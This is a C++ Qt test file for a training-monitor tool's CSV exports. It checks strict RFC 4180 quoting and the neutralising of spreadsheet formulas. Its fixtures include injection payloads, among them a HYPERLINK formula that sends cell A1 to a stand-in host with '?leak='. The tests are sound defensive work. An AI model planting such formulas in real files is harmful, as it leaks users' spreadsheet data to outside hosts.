// SPDX-License-Identifier: GPL-3.0-or-later
// SPDX-FileCopyrightText: 2026 Trainscope contributors
// Both CSV exports with names a hostile server could send: every file must read back cell for cell with a
// strict RFC 4180 reader, and no name may reach a spreadsheet as a formula. The same files are written for
// Python's csv module in strict mode (the CTest csv_python_strict) when TRAINSCOPE_CSV_SAMPLES names a
// folder.
#include "core/export/CsvExporter.h"
#include "core/export/CsvWriter.h"
#include "core/metrics/MetricsStore.h"
#include "core/models/ComparisonTableModel.h"
#include "core/session/JobStatistics.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

#include <optional>

namespace {

// A node id that breaks a row three ways (separator, quote, line break) and is a formula besides.
const QString HostileNode = QStringLiteral("=HYPERLINK(\"http://example.invalid/\",\"open\"),x\n\"y\"");
const QString FormulaJob = QStringLiteral("=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"report\")");

// RFC 4180, strictly: a quote may only open a cell or, doubled, sit inside a quoted one, and a closing quote
// must be followed by a separator or a line end. nullopt for anything else.
std::optional<QList<QStringList>> readStrictCsv(const QByteArray &bytes)
{
    const QString text = QString::fromUtf8(bytes);
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    qsizetype i = 0;
    while (i < text.size()) {
        if (text[i] == u'"') {
            for (++i;; ++i) {
                if (i >= text.size())
                    return std::nullopt; // unterminated
                if (text[i] == u'"') {
                    if (i + 1 < text.size() && text[i + 1] == u'"') {
                        cell += u'"';
                        ++i;
                        continue;
                    }
                    ++i;
                    break;
                }
                cell += text[i];
            }
            if (i < text.size() && text[i] != u',' && text[i] != u'\n')
                return std::nullopt; // text after a closing quote
        } else {
            while (i < text.size() && text[i] != u',' && text[i] != u'\n') {
                if (text[i] == u'"' || text[i] == u'\r')
                    return std::nullopt; // a quote or CR in a bare cell
                cell += text[i++];
            }
        }
        row << cell;
        cell.clear();
        if (i < text.size() && text[i] == u'\n') {
            rows << row;
            row.clear();
        }
        ++i;
    }
    if (!row.isEmpty())
        return std::nullopt; // no line end after the last row
    return rows;
}

MetricsStore storeWithHostileNode()
{
    MetricsResponse response;
    response.job.id = QStringLiteral("job");
    response.job.projectId = QStringLiteral("project");
    response.job.status = JobStatus::Completed;
    response.job.createdAtMs = 0;
    response.job.updatedAtMs = 10'000;
    NodeMetrics node;
    node.nodeId = HostileNode;
    for (qint64 t = 1000; t <= 5000; t += 1000) {
        node.gpuUtilization[0].append(t, 0.5);
        node.cpuUsage.append(t, -1.5); // a negative value stays a number
    }
    response.nodes.push_back(node);
    MetricsStore store;
    store.merge(response, 0, 10'000, 1);
    return store;
}

constexpr int ComparisonCsvColumns = 19;

QByteArray comparisonCsv()
{
    JobStatistics a;
    a.known = true;
    a.durationMs = 60'000;
    a.gpuType = QStringLiteral("@SUM(1,2)");
    a.gpuCount = 8;
    a.nodes = 1;
    a.gpuMemoryHeadroomPct = -12.5;
    JobStatistics b;
    b.known = true;
    b.gpuType = QStringLiteral("H100");
    b.serverStatus =
        QStringLiteral("=STATUS()"); // a status this version does not know, as the server sent it
    ComparisonTableModel model;
    model.setRows({FormulaJob, QStringLiteral("run \"b\", retried\r\nagain")}, {a, b});
    InsightReport analysed; // the first job analysed, the second still analysing: an empty cell
    analysed.gpuHours = 8;
    analysed.idleGpuHours = 0.5;
    model.setInsight(0, analysed);
    return model.toCsv();
}

// What each cell must read back as, for the Python check: {"rows": n, "columns": n, "cells": [[r, c, v]]}.
QJsonObject expectation(int rows, int columns, const QList<std::tuple<int, int, QString>> &cells)
{
    QJsonArray list;
    for (const auto &[r, c, v] : cells)
        list.append(QJsonArray{r, c, v});
    return QJsonObject{{QStringLiteral("rows"), rows},
                       {QStringLiteral("columns"), columns},
                       {QStringLiteral("cells"), list}};
}

} // namespace

class TestCsvExport : public QObject
{
    Q_OBJECT

private slots:
    void textIsQuotedWholeAndFormulasNeutralised_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QByteArray>("cell");
        QTest::newRow("plain") << QStringLiteral("sft-run") << QByteArray("\"sft-run\"");
        QTest::newRow("empty") << QString() << QByteArray("\"\"");
        QTest::newRow("comma, quote") << QStringLiteral("a,\"b\"") << QByteArray("\"a,\"\"b\"\"\"");
        QTest::newRow("line break") << QStringLiteral("a\nb") << QByteArray("\"a\nb\"");
        QTest::newRow("semicolon") << QStringLiteral("x;=1+2") << QByteArray("\"x;=1+2\"");
        QTest::newRow("=") << QStringLiteral("=1+2") << QByteArray("\"'=1+2\"");
        QTest::newRow("+") << QStringLiteral("+1") << QByteArray("\"'+1\"");
        QTest::newRow("-") << QStringLiteral("-2+3") << QByteArray("\"'-2+3\"");
        QTest::newRow("@") << QStringLiteral("@SUM(A1)") << QByteArray("\"'@SUM(A1)\"");
        QTest::newRow("tab") << QStringLiteral("\t=1") << QByteArray("\"'\t=1\"");
        QTest::newRow("CR") << QStringLiteral("\r=1") << QByteArray("\"'\r=1\"");
        QTest::newRow("inner =") << QStringLiteral("a=b") << QByteArray("\"a=b\"");
        QTest::newRow("unicode") << QStringLiteral("läuft ✓") << QByteArray("\"läuft ✓\"");
    }

    void textIsQuotedWholeAndFormulasNeutralised()
    {
        QFETCH(QString, text);
        QFETCH(QByteArray, cell);
        CsvWriter csv;
        csv.text(text);
        csv.number(-3.5);
        csv.plain("time");
        csv.empty();
        csv.endRow();
        QCOMPARE(csv.data(), cell + ",-3.5,time,\n");
    }

    void dashboardCsvKeepsAHostileNodeIdInOneCell()
    {
        const QByteArray bytes = CsvExporter::write(storeWithHostileNode(), 0, 10'000);
        const auto rows = readStrictCsv(bytes);
        QVERIFY2(rows, bytes.constData());
        QCOMPARE(rows->size(), 6); // the header and five times
        const QStringList &header = rows->front();
        QCOMPARE(header.value(0), QStringLiteral("time"));
        QVERIFY2(header.contains(QLatin1Char('\'') + HostileNode + QStringLiteral("/gpu_utilization/gpu0")),
                 qPrintable(header.join(QStringLiteral(" | "))));
        QVERIFY(header.contains(QLatin1Char('\'') + HostileNode + QStringLiteral("/cpu_usage")));
        for (const QStringList &row : *rows)
            QCOMPARE(row.size(), header.size());
        const qsizetype cpu = header.indexOf(QLatin1Char('\'') + HostileNode + QStringLiteral("/cpu_usage"));
        QCOMPARE(rows->at(1).at(cpu), QStringLiteral("-1.5"));
    }

    void comparisonCsvKeepsAFormulaJobNameAsText()
    {
        const QByteArray bytes = comparisonCsv();
        const auto rows = readStrictCsv(bytes);
        QVERIFY2(rows, bytes.constData());
        QCOMPARE(rows->size(), 3);
        for (const QStringList &row : *rows)
            QCOMPARE(row.size(), ComparisonCsvColumns);
        QCOMPARE(rows->at(0).at(0), QStringLiteral("job"));
        QCOMPARE(rows->at(1).at(0), QLatin1Char('\'') + FormulaJob);
        QCOMPARE(rows->at(1).at(2), QStringLiteral("'@SUM(1,2)"));
        QCOMPARE(rows->at(1).at(1), QStringLiteral("60"));
        QCOMPARE(rows->at(1).at(11), QStringLiteral("-12.5")); // our number, not neutralised
        QCOMPARE(rows->at(0).at(15), QStringLiteral("idle_gpu_hours"));
        QCOMPARE(rows->at(1).at(15), QStringLiteral("0.5"));
        QCOMPARE(rows->at(2).at(15), QString());
        QCOMPARE(rows->at(2).at(0), QStringLiteral("run \"b\", retried\r\nagain"));
        QCOMPARE(rows->at(0).at(18), QStringLiteral("status"));
        QCOMPARE(rows->at(2).at(18), QStringLiteral("'=STATUS()"));
        QVERIFY(!bytes.contains("\n=") && !bytes.contains(",="));
    }

    void samplesForPythonsStrictReader()
    {
        const QString dir = qEnvironmentVariable("TRAINSCOPE_CSV_SAMPLES");
        if (dir.isEmpty())
            QSKIP("TRAINSCOPE_CSV_SAMPLES is not set: the CTest csv_python_strict sets it");
        QVERIFY(QDir().mkpath(dir));
        auto write = [&dir](const QString &name, const QByteArray &bytes) {
            QFile f(QDir(dir).filePath(name));
            return f.open(QIODevice::WriteOnly | QIODevice::Truncate) && f.write(bytes) == bytes.size();
        };
        const QByteArray dashboard = CsvExporter::write(storeWithHostileNode(), 0, 10'000);
        const int columns = int(readStrictCsv(dashboard).value().front().size());
        QVERIFY(write(QStringLiteral("dashboard.csv"), dashboard));
        QVERIFY(write(QStringLiteral("comparison.csv"), comparisonCsv()));
        const QString node = QLatin1Char('\'') + HostileNode;
        const QJsonObject expected{
            {QStringLiteral("dashboard.csv"),
             expectation(
                 6, columns,
                 {{0, 0, QStringLiteral("time")}, {1, 0, QStringLiteral("1970-01-01T00:00:01.000Z")}})},
            {QStringLiteral("comparison.csv"),
             expectation(3, ComparisonCsvColumns,
                         {{0, 0, QStringLiteral("job")},
                          {1, 0, QLatin1Char('\'') + FormulaJob},
                          {1, 2, QStringLiteral("'@SUM(1,2)")},
                          {1, 11, QStringLiteral("-12.5")},
                          {2, 0, QStringLiteral("run \"b\", retried\r\nagain")}})},
            {QStringLiteral("dashboard-header-contains"),
             QJsonArray{QString(node + QStringLiteral("/gpu_utilization/gpu0")),
                        QString(node + QStringLiteral("/cpu_usage"))}},
        };
        QVERIFY(write(QStringLiteral("expected.json"), QJsonDocument(expected).toJson()));
    }
};

QTEST_GUILESS_MAIN(TestCsvExport)
#include "tst_csvexport.moc"
